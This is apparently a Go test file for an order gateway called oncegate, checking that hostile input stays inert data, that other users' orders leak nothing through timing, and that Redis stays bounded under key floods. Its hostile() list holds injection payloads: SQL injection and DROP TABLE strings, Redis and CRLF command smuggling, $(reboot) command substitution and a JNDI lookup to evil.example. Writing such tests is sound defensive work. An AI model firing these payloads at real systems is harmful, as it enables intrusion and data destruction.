package main

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/require"

	"github.com/oncegate/oncegate/configs"
	"github.com/oncegate/oncegate/internal/faultproxy"
	"github.com/oncegate/oncegate/internal/testserver"
)

// hostile texts would be something else to a careless program.
func hostile() []string {
	return []string{
		`1'OR'1'='1`, `';DROP/**/TABLE/**/orders;--`, `');DELETE/**/FROM/**/users;#`, `1;SELECT(SLEEP(5))`, `*3$3SET$1a$1b`, `{x}:oncegate:1`,
		`%0d%0aFLUSHALL`, `$(reboot)`, "`id`", `${jndi:ldap://evil.example/a}`, `<script>`, `../../admin`, `null`, `%s%n`, `__proto__`, `?a=b#c`, `*`, `%00`, `%'`,
	}
}

// entryName is all that a client can have stored as a name in Redis.
var entryName = regexp.MustCompile(`^oncegate:1:\{[A-Za-z0-9_-]{16}\}:[A-Za-z0-9_-]{24}$`)

func names(t *testing.T, client *redis.Client) []string {
	t.Helper()
	var all []string
	for it := client.Scan(t.Context(), 0, "*", 1000).Iterator(); it.Next(t.Context()); {
		all = append(all, it.Val())
	}
	return all
}

// Keys, SKUs and numbers that are SQL, Redis protocol or markup are texts to
// every server behind the gateway.
func TestHostileTextsAreOnlyTexts(t *testing.T) {
	t.Parallel()
	onServers(t, func(t *testing.T, dsn string) {
		server := testserver.StartRedis(t)
		c := deployed(t, dsn, server.Addr)
		c.Users.ProvisionBalance = "100000.00"
		g := start(t, c)
		ann := newCustomer(t, c, "ann")
		for i, text := range hostile() {
			body := fmt.Sprintf(`{"sku":%q,"quantity":1,"amount":"1.00","external_order_no":%q}`, text, fmt.Sprint(i, text))
			first := ann.post(g, text, body)
			require.Equal(t, http.StatusCreated, first.status, "%s: %s", text, first.body)
			again := ann.post(g, text, body)
			require.True(t, again.replayed(), text)
			require.Equal(t, first.body, again.body, text)
			status := ann.get(g, "/api/requests/"+url.PathEscape(text))
			require.Equal(t, http.StatusOK, status.status, text)
			require.Contains(t, status.body, first.header.Get("Location"), text)
		}
		require.Equal(t, len(hostile()), orders(t, dsn, "ann"))
		for _, user := range hostile() {
			if user == "null" { // what broken issuers write for nobody
				continue
			}
			stranger := newCustomer(t, c, user)
			require.Equal(t, http.StatusCreated, stranger.post(g, "k", potsticker).status, user)
			require.Equal(t, http.StatusNotFound, stranger.get(g, "/api/requests/never").status, user)
			require.Equal(t, 1, orders(t, dsn, user))
		}
		for _, name := range names(t, server.Client(t)) {
			require.Regexp(t, entryName, name)
		}
	})
}

// statements notes what a gateway asks its servers on behalf of one user.
type statements struct {
	mu   sync.Mutex
	seen []string
}

var literals = regexp.MustCompile(`'(?:[^'\\]|\\.|'')*'|_binary'(?:[^'\\]|\\.)*'|0x[0-9a-fA-F]+|\b[0-9]+(?:\.[0-9]+)?\b`)

func (s *statements) note(statement string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seen = append(s.seen, statement)
}

func (s *statements) take() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	seen := s.seen
	s.seen = nil
	return seen
}

// Somebody else's order or key costs what one costs that never was: the same
// statements to the database and the same commands to Redis, so that the time of
// an answer tells no more than its bytes.
func TestSomebodyElsesOrdersCostTheSameStatements(t *testing.T) {
	t.Parallel()
	onServers(t, func(t *testing.T, dsn string) {
		asked := &statements{}
		sqlProxy, through := throughProxy(t, dsn)
		redisProxy := faultproxy.NewRedis(t, testserver.StartRedis(t).Addr)
		c := deployed(t, through, redisProxy.Addr())
		c.Batches.AsyncWorkers, c.Retention.CompactEvery = 0, 0 // they ask the database for themselves
		g := start(t, c)
		ann, eve := newCustomer(t, c, "ann"), newCustomer(t, c, "eve")
		made := ann.post(g, "k", potsticker)
		require.Equal(t, http.StatusCreated, made.status)
		require.Equal(t, http.StatusCreated, eve.post(g, "other", potsticker).status)
		theirs := strings.TrimPrefix(made.header.Get("Location"), "/api/orders/")
		nobodys := theirs[:len(theirs)-4] + "ffff"
		require.NotEqual(t, nobodys, theirs)

		sqlProxy.OnQuery(func(query string) faultproxy.Action {
			if strings.Contains(query, "eve") || strings.Contains(query, "COMMIT") || strings.Contains(query, "ROLLBACK") {
				asked.note(literals.ReplaceAllString(query, "?"))
			}
			return faultproxy.Pass
		})
		redisProxy.OnCommand(func(command faultproxy.Command) faultproxy.Action {
			if command.Name != "PING" && len(command.Args) > 0 && strings.HasPrefix(command.Args[0], c.Cache.Prefix) {
				asked.note("redis " + command.Name)
			}
			return faultproxy.Pass
		})
		for _, ask := range []struct{ method, foreign, never string }{
			{http.MethodGet, "/api/orders/" + theirs, "/api/orders/" + nobodys},
			{http.MethodPost, "/api/orders/" + theirs + "/cancel", "/api/orders/" + nobodys + "/cancel"},
			{http.MethodGet, "/api/requests/k", "/api/requests/never"},
		} {
			base := "http://" + g.Addr()
			asked.take()
			foreign := eve.do(ask.method, base+ask.foreign, "", "")
			byForeign := asked.take()
			never := eve.do(ask.method, base+ask.never, "", "")
			byNever := asked.take()
			require.Equal(t, http.StatusNotFound, foreign.status, ask.foreign)
			require.Equal(t, http.StatusNotFound, never.status, ask.never)
			require.NotEmpty(t, byNever, ask.never)
			require.Equal(t, byNever, byForeign, ask.foreign)
		}
	})
}

// A user who makes up keys fills neither Redis nor the database: the limit is on
// what he can have stored, and it costs the others nothing.
func TestAFloodOfKeysIsBoundedPerUser(t *testing.T) {
	t.Parallel()
	server := testserver.StartRedis(t)
	client := server.Client(t)
	c := embedded(t.TempDir())
	c.MySQL.DSN = configs.NewSecret(configs.EmbeddedDSN)
	c.Redis.Addrs = []string{server.Addr}
	c.Cache.MACKey = deployed(t, "", server.Addr).Cache.MACKey
	const burst = 10
	c.Limits.Rate, c.Limits.Burst = 0.001, burst
	c.Users.ProvisionBalance = "400.00" // ten orders: the flood is one of refusals as well
	g := start(t, c)
	mallory, ann := newCustomer(t, c, "mallory"), newCustomer(t, c, "ann")
	count := map[int]int{}
	for i := range 200 {
		a := mallory.post(g, fmt.Sprint("made-up-", i), potsticker)
		count[a.status]++
		if a.status == http.StatusTooManyRequests {
			require.NotEmpty(t, a.header.Get("Retry-After"))
			require.Contains(t, a.body, `"outcome":"not_committed"`)
		}
	}
	require.Equal(t, map[int]int{http.StatusCreated: burst, http.StatusTooManyRequests: 200 - burst}, count)
	require.Len(t, names(t, client), burst)
	// Nor does asking for keys that nobody used.
	for i := range 200 {
		a := mallory.get(g, fmt.Sprint("/api/requests/never-", i))
		require.Contains(t, []int{http.StatusNotFound, http.StatusTooManyRequests}, a.status)
	}
	require.Len(t, names(t, client), burst)

	// An honest client retries each of its orders ten times within its limit.
	for i := range 4 {
		require.Equal(t, http.StatusCreated, ann.post(g, fmt.Sprint("k", i), potsticker).status)
		for range 10 {
			require.True(t, ann.post(g, fmt.Sprint("k", i), potsticker).replayed())
		}
	}
}

// When the others are many, Redis is full and stays as large as it is; answers
// stay right.
func TestAFullRedisStaysBounded(t *testing.T) {
	t.Parallel()
	for _, policy := range []string{"noeviction", "volatile-lru", "volatile-ttl", "allkeys-random"} {
		t.Run(policy, func(t *testing.T) {
			t.Parallel()
			server := testserver.StartRedis(t)
			client := server.Client(t)
			limit := usedMemory(t, client) + 128<<10
			require.NoError(t, client.ConfigSet(t.Context(), "maxmemory-policy", policy).Err())
			require.NoError(t, client.ConfigSet(t.Context(), "maxmemory", fmt.Sprint(limit)).Err())
			c := embedded(t.TempDir())
			c.MySQL.DSN = configs.NewSecret(configs.EmbeddedDSN)
			c.Redis.Addrs = []string{server.Addr}
			c.Cache.MACKey = deployed(t, "", server.Addr).Cache.MACKey
			c.Cache.ProcessTier = false
			c.Users.ProvisionBalance = "1000000.00"
			g := start(t, c)
			ann := newCustomer(t, c, "ann")
			const keys = 300
			bodies := make([]string, keys)
			for i := range keys {
				a := ann.post(g, fmt.Sprint("k", i), potsticker)
				require.Equal(t, http.StatusCreated, a.status, a.body)
				bodies[i] = a.body
			}
			kept := names(t, client)
			require.Less(t, len(kept), keys, "it is full")
			if len(kept) > 0 { // the connections' buffers count, and may have driven out all of them
				if size, err := client.MemoryUsage(t.Context(), kept[0]).Result(); err == nil {
					t.Logf("%d entries are kept, one has %d bytes", len(kept), size)
				}
			}
			for i := 0; i < keys; i += 37 {
				a := ann.post(g, fmt.Sprint("k", i), potsticker)
				require.True(t, a.replayed())
				require.Equal(t, bodies[i], a.body)
			}
		})
	}
}

func usedMemory(t *testing.T, client *redis.Client) (bytes int64) {
	t.Helper()
	info, err := client.Info(t.Context(), "memory").Result()
	require.NoError(t, err)
	_, after, found := strings.Cut(info, "used_memory:")
	require.True(t, found)
	_, err = fmt.Sscan(after, &bytes)
	require.NoError(t, err)
	return bytes
}

// throughProxy puts a proxy in front of a database.
func throughProxy(t *testing.T, dsn string) (*faultproxy.MySQLProxy, string) {
	t.Helper()
	before, rest, _ := strings.Cut(dsn, "@tcp(")
	addr, after, found := strings.Cut(rest, ")")
	require.True(t, found, "a database over TCP")
	p := faultproxy.NewMySQL(t, addr)
	return p, before + "@tcp(" + p.Addr() + ")" + after
}
